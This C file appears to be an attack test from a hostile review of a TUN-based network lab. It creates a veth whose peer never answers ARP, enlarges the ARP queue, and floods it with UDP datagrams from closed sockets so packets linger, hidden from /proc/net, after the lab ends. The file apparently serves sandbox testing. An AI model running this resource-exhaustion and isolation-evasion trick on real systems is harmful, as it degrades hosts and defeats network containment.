/* SPDX-License-Identifier: MIT */
/* tun (an attack, from a hostile review of 2026-12-07) that queues packets
 * for a neighbour that never answers: a veth of its own whose peer never
 * answers ARP, the neighbour table's queue raised with "ip ntable", filled
 * by UDP sockets closed once full (a closed socket leaves every /proc/net
 * table, and its packets keep the network alive past the lab). */
#define _GNU_SOURCE
#include "good-tun.h"
#include <errno.h>
#ifndef NSOCK
#define NSOCK 100
#endif
int main(void)
{
	static char data[1472];
	static struct iovec iov = { data, sizeof data };
	static struct mmsghdr m[256];
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	int i, k, s, sz = 4 << 20, n;
	long sent = 0;

	system("ip link add name va type veth peer name vb && ip link set va up && ip link set vb up && "
	       "ip addr add 10.77.0.1/16 dev va && ip ntable change name arp_cache dev va queue 400000 retrans 100000");
	inet_pton(AF_INET, "10.77.0.2", &to.sin_addr);
	for (i = 0; i < 256; i++) {
		m[i].msg_hdr.msg_name = &to;
		m[i].msg_hdr.msg_namelen = sizeof to;
		m[i].msg_hdr.msg_iov = &iov;
		m[i].msg_hdr.msg_iovlen = 1;
	}
	for (k = 0; k < NSOCK; k++) {
		s = socket(AF_INET, SOCK_DGRAM, 0);
		setsockopt(s, SOL_SOCKET, SO_SNDBUF, &sz, sizeof sz);
		while ((n = sendmmsg(s, m, 256, MSG_DONTWAIT)) > 0)
			sent += n;
		close(s);
	}
	printf("neigh: %ld datagrams queued behind 10.77.0.2\n", sent);
	fflush(stdout);
	good_loop(make_tun_named("tun0", "10.1.3.1", 0));
}
